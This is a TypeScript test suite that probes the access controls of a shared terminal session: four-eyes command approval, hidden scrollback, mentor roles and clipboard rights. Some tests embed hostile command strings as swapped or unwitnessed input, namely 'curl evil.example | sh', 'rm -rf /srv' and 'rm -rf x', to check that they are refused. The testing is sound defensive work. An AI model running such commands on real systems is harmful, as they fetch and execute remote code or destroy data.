import { describe, expect, it } from "vitest";
import { utf8 } from "../../shared/base/bytes.ts";
import { defaultModes, modeSchema } from "../../shared/events/mode.ts";
import { arrive, crypto } from "../support/session.ts";
import { intrude } from "./intruder.ts";
import { setStage, type Stage } from "./stage.ts";

/** What somebody tries who is in, or was, to get more than they were given. */

const queued = modeSchema.parse({
  name: "interactive",
  input_merge_mode: "queued",
  activity_timeout_seconds: 10,
});
const secret = "hunter2";

const onStage =
  (options: Parameters<typeof setStage>[0], play: (stage: Stage) => Promise<void>) =>
  async (): Promise<void> => {
    const stage = await setStage(options);
    await play(stage);
    await stage.test.dispose();
  };

describe("what others write", () => {
  it.each([
    ["a question", "question.ask", 1_000],
    ["a chat message", "chat.send", 2_000],
  ] as const)(
    "[P5, M12] that grows when it is composed costs nobody their line: %s",
    async (_what, command, fits) => {
      const stage = await setStage();
      const eve = await stage.enter("Eve", "view");
      expect(await eve.sayAnything(command, { text: "\u0958".repeat(fits + 1) })).toMatchObject({
        ok: false,
        code: "malformed",
      });
      expect(await eve.sayAnything(command, { text: "\u0958".repeat(fits) })).toMatchObject({ ok: true });
      await stage.wait(1);
      expect(stage.owner.peer.client.status.name).toBe("live");
      const window = stage.test.openWindow();
      expect(await arrive(window)).toMatchObject({ name: "live" });
      await stage.test.dispose();
    },
  );
});

describe("four eyes", () => {
  it(
    "[M8] a witness approves what was proposed, not something else, and all of it",
    onStage({ fourEyes: { required: true, perCommand: true } }, async ({ owner, target, enter }) => {
      const witness = await enter("Wim");
      await owner.say("participant.witness", { participant: witness.id });
      await owner.say("proposal.make", { text: "ls -la" });
      const other = { proposal: 1, text: "curl evil.example | sh" };
      expect(await witness.say("proposal.approve", other)).toMatchObject({ code: "four-eyes-as-written" });
      expect(await witness.say("proposal.approve", { proposal: 1, run: false })).toMatchObject({
        code: "four-eyes-as-written",
      });
      expect(target.received).toEqual([]);
      expect(await witness.say("proposal.approve", { proposal: 1, text: "ls -la" })).toMatchObject({
        ok: true,
      });
      expect(target.received).toEqual(["ls -la\r"]);
    }),
  );

  it(
    "[M8] whoever changes a proposal has written it: somebody else has to watch",
    onStage(
      { sessionType: "training", fourEyes: { required: true, perCommand: false } },
      async ({ owner, target, enter }) => {
        const mentor = await enter("Mia");
        await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
        await owner.say("participant.witness", { participant: mentor.id });
        await owner.say("proposal.make", { text: "ls" });
        expect(await mentor.say("proposal.approve", { proposal: 1, text: "rm -rf x" })).toMatchObject({
          code: "four-eyes-missing",
        });
        expect(target.received).toEqual([]);
      },
    ),
  );

  it(
    "[M8] a witness whose screen stands still watches nothing",
    onStage({ fourEyes: { required: true, perCommand: false } }, async ({ owner, target, enter }) => {
      const witness = await enter("Wim", "view");
      await owner.say("participant.witness", { participant: witness.id });
      await owner.say("session.pause", {});
      expect(await owner.type("rm -rf /srv; clear\r")).toMatchObject({ code: "four-eyes-missing" });
      await owner.say("session.resume", {});
      expect(await owner.type("ls\r")).toMatchObject({ ok: true });
      expect(target.received).toEqual(["ls\r"]);
    }),
  );
});

describe("what is not shown", () => {
  it.each(["pause", "sharing-off", "left"] as const)(
    "[M10, J7] is not handed out to somebody who comes back to an old place in the log: %s",
    async (how) => {
      const stage = await setStage();
      const { owner, target, test, until, wait } = stage;
      const link = await test.share({ grant: "view", approval: false });
      const identity = crypto.createEd25519();
      const eve = intrude(test, link, { identity, name: "Eve" });
      await until("being in", () => eve.seq !== undefined);
      target.say(utf8("public "));
      await until("what is shown", () => eve.text.includes("public"));
      const position = { epoch: 1, seq: eve.seq ?? 0 };
      if (how === "pause") await owner.say("session.pause", {});
      else if (how === "left") eve.call("session.leave", {});
      else await owner.say("sharing.switch", { on: false });
      await wait(1);
      target.say(utf8(`\u001b[?1049h${secret}\u001b[2J\u001b[H\u001b[?1049l\u001b[2J\u001b[3J\u001b[H`));
      await until("the owner seeing it", () => owner.peer.shown().includes(secret));
      if (how === "pause") await owner.say("session.resume", {});
      else if (how === "sharing-off") await owner.say("sharing.switch", { on: true });
      await wait(1);
      eve.close();
      await wait(1);

      const again = intrude(test, link, { identity, name: "Eve", resume: position });
      await until("being in again", () => again.seq !== undefined);
      target.say(utf8("back again"));
      await until("what follows", () => again.text.includes("back again"));
      expect(eve.text + again.text).not.toContain(secret);
      await test.dispose();
    },
  );

  const cases = ["slow", "pause", "flood", "program"] as const;
  it.each(cases)(
    "[M10] of the past, where joiners see none of it, comes by no other way: %s",
    async (how) => {
      const stage = await setStage({ joinerScrollback: "none" });
      const { owner, target, test, until, wait } = stage;
      if (how === "program") target.say(utf8("\u001b[?1049h"));
      target.say(utf8(`\u001b[5;1H${secret}\u001b[10;1H`));
      await until("the owner seeing it", () => owner.peer.shown().includes(secret));
      await wait(1);
      const link = await test.share({ grant: "view", approval: false });
      const eve = intrude(test, link, { name: "Eve" }, how !== "slow");
      await until("being in", () => eve.seq !== undefined);
      await wait(1);
      const line = `\r${"#".repeat(70)}${"\u001b[K".repeat(8_000)}`;
      if (how === "pause" || how === "program") {
        await owner.say("session.pause", {});
        target.say(utf8("."));
        await wait(1);
        await owner.say("session.resume", {});
      } else for (let index = 0; index < 40; index++) target.say(utf8(line));
      await wait(1);
      eve.acknowledge();
      await until("a screen in its stead", () => eve.screens > 1);
      expect(eve.text).not.toContain(secret);

      // Once all that stood there then has scrolled away, a whole screen is theirs like everybody's.
      target.say(utf8(`\u001b[?1049l\u001b[24;1H${"new\r\n".repeat(60)}`));
      await wait(1);
      eve.acknowledge();
      await owner.say("session.pause", {});
      target.say(utf8("after the pause"));
      await wait(1);
      await owner.say("session.resume", {});
      await until("the whole screen", () => {
        eve.acknowledge();
        return eve.text.includes("after the pause");
      });
      expect(eve.text).not.toContain(secret);
      await test.dispose();
    },
  );
});

describe("identities made beforehand", () => {
  it.each(["block", "remove", "revoke"] as const)(
    "[J8] ask like any stranger once their link was tightened: %s",
    async (how) => {
      const stage = await setStage();
      const { owner, test, until } = stage;
      const link = await test.share({ grant: "interact", approval: false });
      const spare = crypto.createEd25519();
      const first = intrude(test, link, { identity: spare, name: "Spare" });
      await until("the spare one being in", () => first.seq !== undefined);
      first.call("session.leave", {});
      await until("it having left", () => first.closed !== undefined);
      const mallory = intrude(test, link, { name: "Mallory" });
      await until("being in", () => mallory.participant !== undefined);
      const participant = mallory.participant ?? owner.id;
      if (how === "block") await owner.say("participant.block", { participant });
      else if (how === "remove") await owner.say("participant.remove", { participant });
      else await owner.say("link.revoke", { link, removeGuests: true });

      const back = intrude(test, link, { identity: spare, name: "Spare" });
      await until("an answer", () => back.heard.length > 0);
      expect(back.heard).toEqual([how === "revoke" ? "refused" : "waiting"]);
      await test.dispose();
    },
  );

  it(
    "[J7] whoever left and is let in again by name has the rights they had",
    onStage({}, async ({ owner, test, enter, until }) => {
      const link = await test.share({ grant: "interact", approval: false });
      const identity = crypto.createEd25519();
      const bo = intrude(test, link, { identity, name: "Bo" });
      await until("being in", () => bo.participant !== undefined);
      const participant = bo.participant ?? owner.id;
      await owner.say("participant.permit", { participant, allow_chat: false });
      bo.call("session.leave", {});
      await until("having left", () => bo.closed !== undefined);
      const eve = await enter("Eve");
      await owner.say("link.revoke", { link });
      await owner.say("participant.block", { participant: eve.id });
      const back = intrude(test, link, { identity, name: "Bo" });
      await until("waiting", () => back.heard.includes("waiting"));
      expect(await owner.say("join.approve", { participant })).toMatchObject({ ok: true });
      await until("being in", () => back.heard.includes("welcome"));
      expect(test.session.state.participants[participant]).toMatchObject({
        permissions: { allow_chat: false, allow_input: true },
        approval: { method: "person" },
      });
    }),
  );
});

describe("a mentor", () => {
  const presenter = { mode: defaultModes.presenter, sessionType: "training" } as const;

  it(
    "[M6] takes control by no way but practice, and gives it to nobody else's cost",
    onStage(presenter, async ({ owner, test, enter, wait }) => {
      const mentor = await enter("Mia");
      const trainee = await enter("Tom");
      const expert = await enter("Eva");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      const holder = () => test.session.state.control.holder;
      const refused = { ok: false, code: "owner-does-this" };
      expect(await mentor.say("control.transfer", { to: mentor.id })).toMatchObject(refused);
      await mentor.say("control.request", {});
      expect(await mentor.say("control.approve", { participant: mentor.id })).toMatchObject(refused);
      expect(holder()).toBe(owner.id);

      await owner.say("control.transfer", { to: expert.id });
      await expert.say("control.accept", {});
      for (const to of [owner.id, trainee.id, mentor.id]) {
        expect(await mentor.say("control.transfer", { to })).toMatchObject(refused);
      }
      await trainee.say("control.request", {});
      expect(await mentor.say("control.approve", { participant: trainee.id })).toMatchObject(refused);
      expect(await mentor.say("control.reclaim", {})).toMatchObject(refused);
      await expert.say("control.transfer", { to: trainee.id });
      expect(await mentor.say("control.approve", { participant: trainee.id })).toMatchObject({ ok: false });
      expect(holder()).toBe(expert.id);

      await owner.say("control.reclaim", {});
      await wait(6);
      expect(await mentor.say("control.approve", { participant: trainee.id, practice: true })).toMatchObject({
        ok: true,
      });
      expect(holder()).toBe(trainee.id);
      expect(await mentor.say("control.reclaim", {})).toMatchObject({ ok: true });
      expect(holder()).toBe(mentor.id);
    }),
  );

  it(
    "[M6] is one in training: elsewhere they lead nothing",
    onStage({ mode: defaultModes.presenter }, async ({ owner, enter }) => {
      const mentor = await enter("Mia");
      const guest = await enter("Gil");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      await guest.say("control.request", {});
      await guest.say("proposal.make", { text: "ls" });
      const refused = { ok: false, code: "owner-does-this" };
      expect(await mentor.say("control.approve", { participant: guest.id })).toMatchObject(refused);
      expect(await mentor.say("proposal.approve", { proposal: 1 })).toMatchObject(refused);
      expect(await mentor.say("session.pause", {})).toMatchObject(refused);
    }),
  );

  it(
    "[M10] ends a pause of their own and nobody else's, and sees no more than others once they mentor no longer",
    onStage(presenter, async ({ owner, target, test, enter, until, wait }) => {
      const mentor = await enter("Mia");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      await owner.say("session.pause", {});
      expect(await mentor.say("session.resume", {})).toMatchObject({ ok: false, code: "owner-does-this" });
      await owner.say("session.resume", {});
      expect(await mentor.say("session.pause", {})).toMatchObject({ ok: true });
      await owner.say("participant.role", { participant: mentor.id, role: "observer" });
      target.say(utf8(secret));
      await until("the owner seeing it", () => owner.peer.shown().includes(secret));
      await wait(1);
      expect(mentor.peer.shown()).not.toContain(secret);
      expect(await mentor.say("session.resume", {})).toMatchObject({ ok: false });
      expect(await owner.say("session.resume", {})).toMatchObject({ ok: true });
      await until("their seeing it now", () => mentor.peer.shown().includes(secret));
      expect(test.session.state.paused).toBeNull();
    }),
  );

  it(
    "[M7] who may not type changes no proposal",
    onStage(presenter, async ({ owner, target, enter }) => {
      const mentor = await enter("Mia");
      const guest = await enter("Gil");
      await owner.say("participant.role", { participant: mentor.id, role: "mentor" });
      await owner.say("participant.permit", { participant: mentor.id, allow_input: false });
      await guest.say("proposal.make", { text: "uptime" });
      expect(await mentor.say("proposal.approve", { proposal: 1, text: "rm -rf x" })).toMatchObject({
        code: "no-input-permission",
      });
      expect(await mentor.say("proposal.approve", { proposal: 1 })).toMatchObject({ ok: true });
      expect(target.received).toEqual(["uptime\r"]);
    }),
  );
});

describe("what rests on a right", () => {
  it.each(["may no longer type", "was removed", "was blocked"] as const)(
    "[M7, P6] is withdrawn with it: a proposal of one who %s",
    async (how) => {
      const stage = await setStage();
      const { owner, target, test, enter } = stage;
      const guest = await enter("Gil");
      const participant = guest.id;
      await guest.say("proposal.make", { text: "whoami" });
      if (how === "may no longer type")
        await owner.say("participant.permit", { participant, allow_input: false });
      else if (how === "was removed") await owner.say("participant.remove", { participant });
      else await owner.say("participant.block", { participant });
      expect(test.session.state.proposals[0]?.status).toBe("withdrawn");
      expect(await owner.say("proposal.approve", { proposal: 1 })).toMatchObject({
        code: "no-such-proposal",
      });
      expect(target.received).toEqual([]);
      await test.dispose();
    },
  );

  it(
    "[M4] the token passes by whoever may no longer type",
    onStage(
      { mode: modeSchema.parse({ name: "interactive", input_merge_mode: "token" }) },
      async ({ owner, test, enter }) => {
        const [ana, bo, cleo] = [await enter("Ana"), await enter("Bo"), await enter("Cleo")];
        for (const each of [ana, bo, cleo]) await each.say("control.request", {});
        await owner.say("participant.permit", { participant: bo.id, allow_input: false });
        await ana.say("control.return", {});
        expect(test.session.state.control.holder).toBe(cleo.id);
      },
    ),
  );

  it(
    "[M3] an offer of what somebody hands on is over with their control, approved or not",
    onStage({ mode: defaultModes.presenter }, async ({ owner, test, enter }) => {
      const [holder, heir] = [await enter("Hal"), await enter("Xia", "view")];
      await owner.say("control.transfer", { to: holder.id });
      await holder.say("control.accept", {});
      await holder.say("control.transfer", { to: heir.id });
      await owner.say("control.approve", { participant: heir.id });
      await owner.say("control.reclaim", {});
      expect(await heir.say("control.accept", {})).toMatchObject({ code: "no-offer" });
      expect(test.session.state.control.holder).toBe(owner.id);
    }),
  );

  it(
    "[M3] transfers switched off end what was on its way",
    onStage({ mode: defaultModes.presenter }, async ({ owner, test, enter, happened }) => {
      const [offered, asking] = [await enter("Olaf"), await enter("Asa")];
      await owner.say("control.transfer", { to: offered.id });
      await asking.say("control.request", {});
      await owner.say("mode.set", { mode: { name: "presenter", allow_control_transfer: false } });
      expect(test.session.state.control).toMatchObject({ offer: null, queue: [] });
      expect(await offered.say("control.accept", {})).toMatchObject({ code: "no-offer" });
      expect(happened("control.expired")).toMatchObject([{ why: "mode-changed" }]);
    }),
  );

  it(
    "[M5] an open line goes with the right to type, and the queue goes on",
    onStage({ mode: queued }, async ({ test, enter, wait }) => {
      const eve = await enter("Eve");
      await eve.say("line.submit", { text: "cat" });
      await eve.say("line.open", {});
      expect(test.session.state.lines.open).toBe(eve.id);
      await wait(30);
      expect(test.session.state.lines.open).toBeNull();
    }),
  );

  it(
    "[M11] nobody asks all the questions there may be",
    onStage({}, async ({ enter, wait }) => {
      const [eve, bo] = [await enter("Eve", "view"), await enter("Bo", "view")];
      for (let index = 0; index < 5; index++) {
        expect(await eve.say("question.ask", { text: `why ${index}` })).toMatchObject({ ok: true });
        await wait(1);
      }
      expect(await eve.say("question.ask", { text: "why" })).toMatchObject({ code: "too-many-notes" });
      expect(await bo.say("question.ask", { text: "help" })).toMatchObject({ ok: true });
    }),
  );
});

describe("modes", () => {
  it(
    "[J6] take no more people than they have room for",
    onStage({ mode: defaultModes.presenter }, async ({ owner, test, enter }) => {
      for (const name of ["Ana", "Bo", "Cleo"]) await enter(name);
      const small = { name: "interactive", max_participants: 2 } as const;
      expect(await owner.say("mode.set", { mode: small })).toMatchObject({ code: "too-many-here" });
      expect(test.session.state.mode.name).toBe("presenter");
      const large = { name: "interactive", max_participants: 3 } as const;
      expect(await owner.say("mode.set", { mode: large })).toMatchObject({ ok: true });
    }),
  );

  it(
    "[M1] name who begins, also within presenter mode",
    onStage({ mode: defaultModes.presenter }, async ({ owner, test, enter }) => {
      const ana = await enter("Ana");
      const mode = { name: "presenter", initial_presenter: ana.id } as const;
      expect(await owner.say("mode.set", { mode })).toMatchObject({ ok: true });
      expect(test.session.state.control.holder).toBe(ana.id);
      await owner.say("control.reclaim", {});
      expect(await owner.say("mode.set", { mode })).toMatchObject({ ok: true });
      expect(test.session.state.control.holder).toBe(ana.id);
    }),
  );

  it(
    "[M12] keep who watched on the record",
    onStage({}, async ({ owner }) => {
      const mode = { name: "view_only", record_observer: false } as const;
      expect(await owner.say("mode.set", { mode })).toMatchObject({ code: "policy-records-observers" });
    }),
  );
});

describe("the clipboard", () => {
  it(
    "[P1, M9] is for whoever may use it, and pasting for whoever may type besides",
    onStage({ mode: defaultModes.interactive }, async ({ owner, target, enter }) => {
      const guest = await enter("Gil");
      expect(await guest.say("input.paste", { text: "one" })).toMatchObject({ ok: true });
      await owner.say("participant.permit", { participant: guest.id, allow_clipboard: false });
      expect(await guest.say("input.paste", { text: "two" })).toMatchObject({
        code: "no-clipboard-permission",
      });
      expect(await guest.type("three")).toMatchObject({ ok: true });
      await owner.say("participant.permit", {
        participant: guest.id,
        allow_clipboard: true,
        allow_input: false,
      });
      expect(await guest.say("input.paste", { text: "four" })).toMatchObject({ code: "no-input-permission" });
      expect(target.received).toEqual(["one", "three"]);
    }),
  );
});
